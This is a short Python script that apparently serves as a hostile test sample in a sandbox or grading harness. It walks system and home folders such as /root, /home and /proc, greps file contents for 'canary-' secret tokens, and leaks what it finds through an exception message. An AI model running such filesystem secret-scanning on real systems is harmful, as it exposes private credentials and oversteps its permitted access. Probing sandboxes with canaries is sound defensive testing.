# tries: to look through all folders for what looks secret
# points: 0
# harm: secrets
import os
import re

told, seen = [], 0
for top in ("@COURSE@", "..", "../..", "/tmp", "/root", "/home", "/proc", "/dev/shm", "/var"):
    for folder, folders, files in os.walk(top):
        for name in files:
            seen += 1
            try:
                told += re.findall(r"canary-\w+", open(os.path.join(folder, name)).read(10**6))
            except (OSError, ValueError):
                pass
        if seen > 2000:
            break
raise ValueError(f"{seen} {told[:9]}")
